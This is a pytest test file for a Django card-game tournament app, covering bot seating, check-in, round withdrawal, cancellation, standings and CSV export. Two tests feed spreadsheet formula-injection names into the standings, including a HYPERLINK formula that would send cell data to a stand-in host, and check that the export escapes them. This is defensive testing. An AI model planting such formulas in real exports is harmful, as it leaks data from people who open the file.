"""The desk's second edition: bots filling tables and seated among people, check-in, a round
withdrawn, a tournament cancelled or deleted — no tournament left that can neither start nor go."""

import csv
import io

import pytest
from django.template import Context, Template

from games import services as game_services
from games.models import Match
from tests.api.conftest import PASSWORD, assert_problem
from tests.tournaments.conftest import TOURNAMENT
from tournaments import selectors, services
from tournaments.models import Round, Table, Tournament

pytestmark = pytest.mark.django_db

HOUSE_RULES = {"may_draw_voluntarily": False}


def create(staff, **settings) -> str:
    body = {**TOURNAMENT, "rounds": 4, "deals_per_round": 1, **settings}
    response = staff.post("/api/v1/tournaments/", body)
    assert response.status_code == 201, response.content
    return f"/api/v1/tournaments/{response.json()['id']}"


def register_players(staff, path: str, count: int) -> list[str]:
    names = []
    for number in range(count):
        user, _ = game_services.player_register(
            username=f"{path.rsplit('/', 1)[-1]}p{number:02}", password=PASSWORD
        )
        assert staff.post(f"{path}/register/", {"player": user.username}).status_code == 200
        names.append(user.username)
    return names


def round_tables(staff, path: str, number: int = 1) -> list[dict]:
    return staff.get(f"{path}/").json()["rounds"][number - 1]["tables"]


def enter_results(staff, path: str, number: int) -> None:
    """Every table of the round won by its seat 0, the others holding 10 each."""
    for table in round_tables(staff, path, number):
        names = [seat["name"] for seat in table["seats"]]
        deal = {"winner": names[0], "points_left": dict.fromkeys(names[1:], 10)}
        url = f"{path}/rounds/{number}/tables/{table['number']}/result/"
        assert staff.post(url, {"deals": [deal]}).status_code == 200


def test_the_reported_dead_end_guests_and_bots_online_can_always_be_deleted(staff, alice):
    """14 guests and 2 bots online: whatever start answers, the tournament never stays stuck."""
    path = create(staff, public=True, options=HOUSE_RULES)
    entries = [{"guest": f"Guest {n}"} for n in range(14)] + [{"bot": "random"}] * 2
    assert staff.post(f"{path}/register/", {"entries": entries}).status_code == 200

    started = staff.post(f"{path}/start/")
    assert started.status_code < 500
    if started.status_code != 200:  # refused: nothing was written, it can still be removed
        assert staff.get(f"{path}/").json()["status"] == "registering"
    assert_problem(alice.http.delete(f"{path}/"), 403, "staff_only")
    assert staff.http.delete(f"{path}/").status_code == 204
    assert_problem(staff.get(f"{path}/"), 404, "not_found")
    assert not Tournament.objects.exists()


def test_bots_fill_the_seats_the_numbers_leave_empty(staff):
    path = create(staff, fill_with_bots="random", options=HOUSE_RULES)
    register_players(staff, path, 14)
    body = staff.post(f"{path}/start/").json()
    assert body["fill_with_bots"] == "random"
    tables = body["rounds"][0]["tables"]
    assert sorted((len(t["seats"]), t["fill_bots"]) for t in tables) == [
        (3, 1),
        (3, 1),
        (4, 0),
        (4, 0),
    ]
    assert body["rounds"][0]["byes"] == []
    for table in tables:
        match = Match.objects.get(pk=table["match"])
        assert match.status == Match.Status.ACTIVE
        assert match.seats.count() == 4
        assert match.seats.filter(bot_strategy="random").count() == table["fill_bots"]


def test_a_filled_table_ranks_its_entries_against_the_bot(staff):
    path = create(staff, fill_with_bots="random", rounds=1, options=HOUSE_RULES)
    register_players(staff, path, 3)
    table = staff.post(f"{path}/start/").json()["rounds"][0]["tables"][0]
    assert (len(table["seats"]), table["fill_bots"]) == (3, 1)
    names = [seat["name"] for seat in table["seats"]]
    deal = {"winner": names[0], "points_left": {names[1]: 5, names[2]: 20}}
    assert staff.post(f"{path}/rounds/1/tables/1/result/", {"deals": [deal]}).status_code == 200
    rows = staff.get(f"{path}/standings/").json()
    # No bot ranked; the loser left holding 5 above the one holding 20 (conceded).
    assert [row["player"] for row in rows] == names
    assert [row["tiebreaks"]["conceded"] for row in rows] == [0, 5, 20]


def test_fill_with_bots_is_for_online_play_with_a_known_strategy(staff):
    body = {**TOURNAMENT, "play": "offline", "fill_with_bots": "random"}
    assert_problem(staff.post("/api/v1/tournaments/", body), 400, "bots_need_online_play")
    body = {**TOURNAMENT, "fill_with_bots": "genius"}
    assert_problem(staff.post("/api/v1/tournaments/", body), 400, "invalid_bots")


@pytest.mark.slow
def test_bot_entrants_sit_among_people_without_repeats_above_the_lower_bound(staff):
    """The evening of the report: 14 people and 2 bot entrants over 4 rounds at tables of 4."""
    path = create(staff, options=HOUSE_RULES)
    register_players(staff, path, 14)
    for number in range(2):
        staff.post(f"{path}/register/", {"bot": "random", "name": f"Robot {number}"})
    measured = []
    for number in range(1, 5):
        started = staff.post(f"{path}/start/" if number == 1 else f"{path}/next-round/")
        assert started.status_code == 200, started.content
        played = started.json()["rounds"][number - 1]
        measured.append((played["repeats"], played["repeat_lower_bound"]))
        assert [len(t["seats"]) for t in played["tables"]] == [4, 4, 4, 4]
        for table in played["tables"]:
            bots = sum(seat["bot"] is not None for seat in table["seats"])
            assert bots < len(table["seats"]) - 1  # never bots apart
        enter_results(staff, path, number)
    assert measured == [(0, 0)] * 4


def test_absent_entries_are_not_seated_and_get_no_bye(staff):
    path = create(staff, play="offline")
    names = register_players(staff, path, 9)
    body = staff.post(f"{path}/checkin/", {"name": names[8], "present": False}).json()
    assert [e["present"] for e in body["entries"]] == [True] * 8 + [False]
    assert_problem(
        staff.post(f"{path}/checkin/", {"name": "Nobody", "present": True}), 409, "not_registered"
    )
    played = staff.post(f"{path}/start/").json()["rounds"][0]
    seated = {seat["name"] for table in played["tables"] for seat in table["seats"]}
    assert names[8] not in seated
    assert played["byes"] == []
    enter_results(staff, path, 1)
    rows = staff.get(f"{path}/standings/").json()
    absent = next(row for row in rows if row["player"] == names[8])
    assert (absent["played"], absent["byes"], absent["score"]) == (0, 0, 0)


def test_a_published_round_is_withdrawn_and_seated_again(staff):
    path = create(staff, options=HOUSE_RULES)
    register_players(staff, path, 8)
    first = staff.post(f"{path}/start/").json()["rounds"][0]
    match_ids = [table["match"] for table in first["tables"]]

    body = staff.post(f"{path}/rounds/1/unpublish/").json()
    assert body["status"] == "registering"
    assert body["rounds"] == []
    for match in Match.objects.filter(pk__in=match_ids):
        assert match.status == Match.Status.ABANDONED
        assert (match.result or {}).get("reason") == "round_withdrawn"
    assert Round.objects.get().status == Round.Status.DRAFT
    assert not Table.objects.filter(recorded_at__isnull=False).exists()

    again = staff.post(f"{path}/start/").json()["rounds"][0]
    assert all(Match.objects.get(pk=t["match"]).status == "active" for t in again["tables"])
    enter_results(staff, path, 1)
    assert_problem(staff.post(f"{path}/rounds/1/unpublish/"), 409, "round_has_results")
    assert_problem(staff.post(f"{path}/rounds/2/unpublish/"), 409, "not_latest_round")


def test_cancel_abandons_open_matches_and_leaves_the_public_index(staff, alice):
    path = create(staff, public=True, options=HOUSE_RULES)
    players = register_players(staff, path, 4)
    match_id = staff.post(f"{path}/start/").json()["rounds"][0]["tables"][0]["match"]
    assert_problem(alice.post(f"{path}/cancel/"), 403, "staff_only")

    assert staff.post(f"{path}/cancel/").json()["status"] == "cancelled"
    match = Match.objects.get(pk=match_id)
    assert match.status == Match.Status.ABANDONED
    assert (match.result or {}).get("reason") == "tournament_cancelled"
    assert Tournament.objects.get().status == "cancelled"
    assert_problem(staff.post(f"{path}/cancel/"), 409, "tournament_cancelled")
    assert_problem(staff.post(f"{path}/next-round/"), 409, "tournament_cancelled")
    assert_problem(staff.post(f"{path}/withdraw/", {"name": players[0]}), 409, "not_registering")
    listed = alice.get("/tournaments/")
    assert listed.status_code == 200
    assert b"Tuesday club" not in listed.content


def test_a_cancelled_tournament_takes_no_result_nor_correction(staff):
    path = create(staff, play="offline")
    register_players(staff, path, 8)
    staff.post(f"{path}/start/")
    enter_results(staff, path, 1)
    staff.post(f"{path}/next-round/")
    assert staff.post(f"{path}/cancel/").status_code == 200
    played, waiting = round_tables(staff, path, 1)[0], round_tables(staff, path, 2)[0]

    for table, number in ((played, 1), (waiting, 2)):
        names = [seat["name"] for seat in table["seats"]]
        deal = {"winner": names[1], "points_left": dict.fromkeys([names[0], *names[2:]], 5)}
        url = f"{path}/rounds/{number}/tables/{table['number']}/result/"
        refused = staff.post(url, {"deals": [deal], "replace": True})
        assert_problem(refused, 409, "tournament_cancelled")
        assert "its results are closed" in refused.json()["detail"]

    assert round_tables(staff, path, 1)[0]["result"] == played["result"]
    assert round_tables(staff, path, 2)[0]["result"] is None
    assert staff.get(f"{path}/").json()["status"] == "cancelled"


def test_a_tournament_with_results_is_not_deleted(staff):
    path = create(staff, play="offline")
    register_players(staff, path, 4)
    staff.post(f"{path}/start/")
    enter_results(staff, path, 1)
    assert_problem(staff.http.delete(f"{path}/"), 409, "has_results")
    assert staff.post(f"{path}/cancel/").status_code == 200


def test_a_draft_edited_to_a_larger_table_is_refused_naming_people(organiser, human_event):
    tournament = human_event(14, table_size=4)
    drafted = services.round_draft(tournament_id=tournament.pk, user=organiser)
    tables = [
        list(t.seats.order_by("seat").values_list("entry_id", flat=True))
        for t in drafted.tables.order_by("number")
    ]
    moved = tables[3].pop()
    tables[0].append(moved)
    with pytest.raises(Exception, match="tables of 5, 4, 3, 2"):
        services.round_edit(tournament_id=tournament.pk, user=organiser, tables=tables)
    left_out = tables[1].pop()
    tables[0].remove(moved)
    tables[3].append(moved)
    name = tournament.entries.get(pk=left_out).name
    with pytest.raises(Exception, match=f"not seated: {name}"):
        services.round_edit(tournament_id=tournament.pk, user=organiser, tables=tables)


def test_french_standings_list_conceded_first_and_the_csv_rounds_as_the_pages(staff):
    path = create(staff, play="offline", rounds=1, public=True)
    names = register_players(staff, path, 3)
    detail = staff.post(f"{path}/start/").json()
    assert detail["ranking"] == "total"
    assert detail["tiebreaks"] == [
        "conceded",
        "table_share",
        "opponents_score",
        "deals_won",
        "head_to_head",
        "lot",
    ]
    seated = [seat["name"] for seat in detail["rounds"][0]["tables"][0]["seats"]]
    deal = {"winner": seated[0], "points_left": {seated[1]: 35, seated[2]: 5}}
    assert staff.post(f"{path}/rounds/1/tables/1/result/", {"deals": [deal]}).status_code == 200
    rows = staff.get(f"{path}/standings/").json()
    assert [row["player"] for row in rows] == [seated[0], seated[2], seated[1]]
    assert list(rows[0]["tiebreaks"]) == detail["tiebreaks"]
    assert {row["kind"] for row in rows} == {"player"}
    assert sorted(names) == sorted(seated)
    page = staff.http.get(f"/tournaments/{detail['id']}/").content.decode()
    assert "then tallies conceded (fewer first), share of the table" in page
    assert "added up over the rounds" in page


def test_one_rounding_for_the_csv_and_the_pages():
    row = {
        "rank": 1,
        "entry": 1,
        "player": "Chloé",
        "kind": "guest",
        "bot": None,
        "score": 0.8125,
        "points": 2.005,
        "deals_won": 0,
        "played": 1,
        "byes": 0,
        "withdrawn": False,
        "present": True,
        "tiebreaks": {"table_share": 0.8125, "opponents_score": 1 / 3, "head_to_head": None},
        "rating": 1.0,
        "round_points": {},
    }
    exported = selectors.standings_csv(
        standings=selectors.Standings(rows=[row], round_numbers=[], score_history={})
    )
    assert exported.startswith("\ufeffrank,player,kind,")
    cells = exported.splitlines()[1].split(",")
    page = Template("{{ v|floatformat:3 }}").render(Context({"v": 0.8125}))
    assert page == "0.813"
    assert cells[:4] == ["1", "Chloé", "guest", page]
    assert "0.333" in cells


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_name_that_could_start_a_formula_is_exported_as_text(lead):
    figures = dict.fromkeys(name for name, _ in selectors.CSV_COLUMNS)
    row = figures | {"player": f"{lead}SUM(A1:A9)", "kind": "guest", "points": -2.5}
    row |= {"tiebreaks": {}, "round_points": {1: -2.5}}

    exported = selectors.standings_csv(
        standings=selectors.Standings(rows=[row], round_numbers=[1], score_history={})
    )

    cells = next(csv.DictReader(io.StringIO(exported.removeprefix("\ufeff"))))
    assert cells["player"] == f"'{lead}SUM(A1:A9)"
    assert (cells["points"], cells["round_1"]) == ("-2.50", "-2.50")  # figures stay figures


def test_a_guest_named_like_a_formula_comes_out_of_the_standings_csv_as_text(staff):
    path = create(staff, play="offline", rounds=1)
    link = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
    names = [link, "@Eve", "+Fred", "-Gus"]
    entries = {"entries": [{"guest": name} for name in names]}
    assert staff.post(f"{path}/register/", entries).status_code == 200

    exported = staff.get(f"{path}/standings/?format=csv").content.decode()

    rows = csv.DictReader(io.StringIO(exported.removeprefix("\ufeff")))
    assert sorted(row["player"] for row in rows) == sorted(f"'{name}" for name in names)


def test_tallies_no_cards_can_make_are_refused_and_high_ones_confirmed(staff):
    path = create(staff, play="offline", rounds=1)
    register_players(staff, path, 3)
    seated = [
        s["name"] for s in staff.post(f"{path}/start/").json()["rounds"][0]["tables"][0]["seats"]
    ]
    url = f"{path}/rounds/1/tables/1/result/"

    def deal(first: int, second: int) -> dict:
        return {
            "deals": [{"winner": seated[0], "points_left": {seated[1]: first, seated[2]: second}}]
        }

    refused = assert_problem(staff.post(url, deal(1, 10)), 400, "invalid_result")
    assert "smallest card counts 3" in str(refused["errors"])
    refused = assert_problem(staff.post(url, deal(9999, 10)), 400, "invalid_result")
    assert "whole deck" in str(refused["errors"])
    asked = assert_problem(staff.post(url, deal(160, 10)), 400, "implausible_tally")
    assert f"{seated[1]} 160" in asked["detail"]
    assert staff.post(url, {**deal(160, 10), "confirm": True}).status_code == 200

    corrected = staff.post(url, {**deal(16, 10), "replace": True, "reason": "misread a 6"})
    history = corrected.json()["result"]["history"]
    assert [(v["entered_by"], v["reason"]) for v in history] == [
        ("organiser", ""),
        ("organiser", "misread a 6"),
    ]
    too_long = {**deal(16, 10), "replace": True, "reason": "x" * 201}
    assert_problem(staff.post(url, too_long), 400, "invalid")
